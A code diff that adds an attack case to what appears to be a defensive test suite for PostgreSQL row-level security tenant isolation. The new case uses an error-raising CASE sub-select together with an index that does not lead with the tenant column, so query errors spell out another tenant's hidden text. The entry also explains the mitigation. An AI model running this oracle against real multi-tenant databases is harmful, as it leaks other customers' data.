@@ -199,6 +199,31 @@ export const oracles: readonly Attack[] = [
     plain: 'leaks',
   },
   {
+    id: 'O15',
+    title: 'an error in a condition that costs nothing',
+    tries:
+      'spells a hidden text by an index that does not begin with the tenant: a CASE without any function, whose result is a sub-select that raises, is checked for the rows it finds',
+    prepare: 'CREATE INDEX note_body ON note (body COLLATE "C")',
+    undo: 'DROP INDEX note_body',
+    steps: [
+      {
+        learn: async (ask) => {
+          await ask('SET enable_seqscan = off; SET enable_bitmapscan = off;');
+          const raises = '(SELECT 1 / (random() * 0)::int = 1)';
+          const above = async (guess: string) =>
+            /division by zero/.test(
+              await ask(
+                `SELECT 1 FROM note WHERE body COLLATE "C" >= ${literal(guess)} AND body COLLATE "C" < 'of C' AND CASE WHEN body IS NULL THEN ${raises} ELSE ${raises} END`,
+              ),
+            );
+          return spell(async (guess) => !(await above(guess)), 'of B', 8);
+        },
+      },
+    ],
+    open: 'PostgreSQL checks what costs nothing before any policy, and takes a condition for leakproof by the functions that are given columns, whatever a sub-select in it does. Let indexes begin with the tenant column; what is left are boolean columns, and whether a column is null.',
+    plain: 'leaks',
+  },
+  {
     id: 'O09',
     title: 'the last value of a sequence',
     tries: "lastval() and currval() behind B's insert on the same connection",
